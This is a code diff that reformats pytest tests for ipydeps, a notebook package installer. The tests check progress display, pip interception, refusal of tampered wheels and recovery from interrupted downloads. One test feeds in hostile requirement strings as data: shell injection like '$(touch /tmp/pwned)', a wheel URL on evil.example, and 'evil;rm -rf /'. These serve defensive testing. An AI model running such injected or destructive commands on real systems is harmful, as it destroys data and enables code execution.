@@ -72,8 +72,9 @@ def test_pip_then_import_in_the_next_cell(notebook: Notebook) -> None:
     assert installed.error is None, installed.text
     assert f"alpha-pkg 1.0 (wheel from {notebook.source})" in installed.text
     assert "dependency of alpha-pkg" in installed.text  # the plan was shown first
-    imported = notebook.kernel.run("import alpha_pkg, alpha_dep\n"
-                                   "print(alpha_pkg.__version__, alpha_dep.__version__)")
+    imported = notebook.kernel.run(
+        "import alpha_pkg, alpha_dep\nprint(alpha_pkg.__version__, alpha_dep.__version__)"
+    )
     assert imported.stdout == "1.0 1.1\n", imported.text
     assert (site_packages(notebook.venv) / "alpha_pkg-1.0.dist-info" / "INSTALLER").exists()
 
@@ -82,8 +83,11 @@ def test_progress_is_one_display_updated_in_place(notebook: Notebook) -> None:
     notebook.publish("progress-pkg", "1.0")
     done = notebook.kernel.run("import ipydeps\n_ = ipydeps.pip(['progress-pkg'])")
     assert done.error is None, done.text
-    tables = [kind for kind, data in zip(done.kinds, done.displays, strict=True)
-              if "<th>state</th>" in str(data.get("text/html", ""))]
+    tables = [
+        kind
+        for kind, data in zip(done.kinds, done.displays, strict=True)
+        if "<th>state</th>" in str(data.get("text/html", ""))
+    ]
     assert tables[0] == "display_data" and tables.count("display_data") == 1
     assert tables.count("update_display_data") >= 2
     assert "installed" in str(done.displays[-1]["text/html"])
@@ -106,8 +110,9 @@ def test_shell_pip_install_is_intercepted(notebook: Notebook) -> None:
     done = notebook.kernel.run("!pip install -q gamma-pkg\n!python -m pip install gamma-two")
     assert done.error is None, done.text
     assert f"gamma-two 0.5 (wheel from {notebook.source})" in done.text
-    imported = notebook.kernel.run("import gamma_pkg, gamma_two\n"
-                                   "print(gamma_pkg.__version__, gamma_two.__version__)")
+    imported = notebook.kernel.run(
+        "import gamma_pkg, gamma_two\nprint(gamma_pkg.__version__, gamma_two.__version__)"
+    )
     assert imported.stdout == "3.0 0.5\n", imported.text
 
 
@@ -162,14 +167,20 @@ def test_tampered_wheel_is_refused_and_nothing_changes(notebook: Notebook, tampe
     evil_dir = notebook.wheels / f"evil-{project}"
     evil_dir.mkdir()
     module = project.replace("-", "_")
-    evil = make_wheel(evil_dir, f"{project}-pkg", "1.0",
-                      files={f"{module}_pkg/__init__.py": "print('evil code ran')\n"})
+    evil = make_wheel(
+        evil_dir,
+        f"{project}-pkg",
+        "1.0",
+        files={f"{module}_pkg/__init__.py": "print('evil code ran')\n"},
+    )
     served.write_bytes(evil.read_bytes())
     before = snapshot(notebook.venv)
     # The repository is on loopback, so the stored copy is what ipydeps fetches by default.
     setting = "never" if tampered == "wheel" else "auto"
-    done = notebook.kernel.run(f"import os, ipydeps\nos.environ['IPYDEPS_STORED_COPIES'] = "
-                               f"{setting!r}\nipydeps.pip(['{project}-pkg'])")
+    done = notebook.kernel.run(
+        f"import os, ipydeps\nos.environ['IPYDEPS_STORED_COPIES'] = "
+        f"{setting!r}\nipydeps.pip(['{project}-pkg'])"
+    )
     assert done.error is not None and done.error["ename"] == "HashMismatchError", done.text
     assert "tampered" in done.error["evalue"]
     assert snapshot(notebook.venv) == before
@@ -180,26 +191,40 @@ def test_tampered_wheel_is_refused_and_nothing_changes(notebook: Notebook, tampe
 def test_server_dying_mid_download_leaves_nothing_installed(notebook: Notebook) -> None:
     (notebook.wheels / "cut").mkdir()
     complete = make_wheel(notebook.wheels / "cut", "zeta-dep", "1.0")
-    broken = make_wheel(notebook.wheels / "cut", "zeta-pkg", "1.0", requires=["zeta-dep"],
-                        files={"zeta_pkg/__init__.py": "x = 1\n",
-                               "zeta_pkg/big.bin": b"\0" * 200_000})
+    broken = make_wheel(
+        notebook.wheels / "cut",
+        "zeta-pkg",
+        "1.0",
+        requires=["zeta-dep"],
+        files={"zeta_pkg/__init__.py": "x = 1\n", "zeta_pkg/big.bin": b"\0" * 200_000},
+    )
     routes: dict[str, Scripted] = {}
     for wheel, cut in ((complete, None), (broken, broken.stat().st_size // 2)):
         project = wheel.name.split("-")[0].replace("_", "-")
         data = wheel.read_bytes()
         metadata = wheel_metadata(wheel)
-        page = {"meta": {"api-version": "1.0"}, "name": project, "files": [{
-            "filename": wheel.name, "url": f"/files/{wheel.name}",
-            "hashes": {"sha256": hashlib.sha256(data).hexdigest()},
-            "core-metadata": {"sha256": hashlib.sha256(metadata).hexdigest()}}]}
+        page = {
+            "meta": {"api-version": "1.0"},
+            "name": project,
+            "files": [
+                {
+                    "filename": wheel.name,
+                    "url": f"/files/{wheel.name}",
+                    "hashes": {"sha256": hashlib.sha256(data).hexdigest()},
+                    "core-metadata": {"sha256": hashlib.sha256(metadata).hexdigest()},
+                }
+            ],
+        }
         routes[f"/simple/{project}/"] = Scripted(
-            body=json.dumps(page).encode(), content_type="application/vnd.pypi.simple.v1+json")
+            body=json.dumps(page).encode(), content_type="application/vnd.pypi.simple.v1+json"
+        )
         routes[f"/files/{wheel.name}"] = Scripted(body=data, cut=cut)
         routes[f"/files/{wheel.name}.metadata"] = Scripted(body=metadata)
     before = snapshot(notebook.venv)
     with scripted_server(routes=routes) as dying:
         done = notebook.kernel.run(
-            f"import ipydeps\nipydeps.pip(['zeta-pkg'], index_url={dying.url!r})")
+            f"import ipydeps\nipydeps.pip(['zeta-pkg'], index_url={dying.url!r})"
+        )
     assert done.error is not None and done.error["ename"] == "DownloadError", done.text
     assert "connection closed after" in done.error["evalue"]
     assert f"/files/{complete.name}" in dying.requests  # the other wheel did arrive
@@ -210,7 +235,8 @@ def test_hostile_requirements_are_refused(notebook: Notebook) -> None:
     before = snapshot(notebook.venv)
     done = notebook.kernel.run(
         "import ipydeps\nipydeps.pip(['numpy; import os', 'x @ http://evil.example/x.whl', "
-        "'$(touch /tmp/pwned)'])")
+        "'$(touch /tmp/pwned)'])"
+    )
     assert done.error is not None and done.error["ename"] == "InvalidRequirementError"
     assert "nothing was installed" in done.error["evalue"]
     magic = notebook.kernel.run("%load_ext ipydeps\n%pip install 'evil;rm -rf /'")
@@ -242,13 +268,18 @@ def test_text_clients_see_words_and_the_summary_once(notebook: Notebook) -> None
     assert done.error is None, done.text
     plain = [str(data.get("text/plain", "")) for data in done.displays]
     assert plain and not any(text.startswith("<IPython.core.display") for text in plain), plain
-    progress = [text for kind, text in zip(done.kinds, plain, strict=True)
-                if kind == "display_data" and text.startswith("Installing")]
+    progress = [
+        text
+        for kind, text in zip(done.kinds, plain, strict=True)
+        if kind == "display_data" and text.startswith("Installing")
+    ]
     assert progress == ["Installing 2 package(s): text-dep 1.0, text-pkg 1.0"], plain
     final = plain[-1].splitlines()
     assert final[0].split() == ["package", "version", "route", "state", "bytes"], plain[-1]
     assert {line.split()[0]: line.split()[3] for line in final[1:]} == {
-        "text-dep": "installed", "text-pkg": "installed"}
+        "text-dep": "installed",
+        "text-pkg": "installed",
+    }
     # The summary is ordinary output, once: a console shows it though it ignores updates.
     summary = f"text-pkg 1.0 (wheel from {notebook.source})"
     assert done.stdout.count(summary) == 1, done.stdout
@@ -262,7 +293,8 @@ def test_no_repository_is_said_once_per_kernel(notebook: Notebook) -> None:
     setup = notebook.kernel.run(
         "import os, ipydeps\nsaved = dict(os.environ)\n"
         "os.environ.update(IPYDEPS_REPOSITORY_URL='', IPYDEPS_UPSTREAM='allow', "
-        f"IPYDEPS_UPSTREAM_URL={upstream!r})")
+        f"IPYDEPS_UPSTREAM_URL={upstream!r})"
+    )
     assert setup.error is None, setup.text
     try:
         first = notebook.kernel.run("_ = ipydeps.pip(['loose-one'])")
